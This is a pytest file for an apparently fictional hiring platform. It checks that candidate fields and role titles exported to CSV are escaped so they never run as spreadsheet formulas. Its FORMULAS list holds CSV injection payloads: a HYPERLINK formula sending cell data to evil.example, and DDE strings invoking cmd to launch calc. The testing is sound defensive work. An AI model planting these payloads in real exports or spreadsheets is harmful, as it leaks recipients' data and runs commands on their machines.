"""Issue 18, item 7: words exported to CSV (a résumé's, a role's title, a stage's name) never
run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.factories import make_candidate
from worldhire.pipeline.exchange import candidates_csv, spreadsheet_cell
from worldhire.pipeline.funnel import funnel
from worldhire.pipeline.models import Application, StageMove
from worldhire.pipeline.stages import default_config

FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A2,"CV")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_in_any_field_is_exported_as_text(formula: str) -> None:
    person = make_candidate(name=formula, headline=formula, location=formula,
                            links=[formula], phone=formula)
    [row] = list(csv.DictReader(io.StringIO(candidates_csv([person]))))
    for column in ("name", "headline", "location", "links", "phone"):
        assert row[column] == "'" + formula


def test_plain_values_are_unchanged() -> None:
    [row] = list(csv.DictReader(io.StringIO(candidates_csv([make_candidate()]))))
    assert row["name"] == "Ada Example" and row["email"] == "ada@example.com"


@given(st.text())
def test_no_cell_starts_a_formula(value: str) -> None:
    cell = spreadsheet_cell(value)
    assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}
    assert cell.removeprefix("'") == value or cell == value


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_role_title_in_the_funnel_csv_is_text(formula: str) -> None:
    """The funnel's CSV names each role by its title, which a recruiter typed or a job post
    said."""
    started = StageMove("a1", 1, None, "sourced", "user:u@t", datetime(2026, 3, 2, tzinfo=UTC))
    moves = {"a1": [started]}
    report = funnel(default_config(), [Application("ten_1", "c1", "r1", "sourced", id="a1")],
                    moves, role_titles={"r1": formula}, countries={})
    rows = list(csv.DictReader(io.StringIO(report.csv())))
    assert {row["group"] for row in rows if row["grouping"] == "role"} == {"'" + formula}
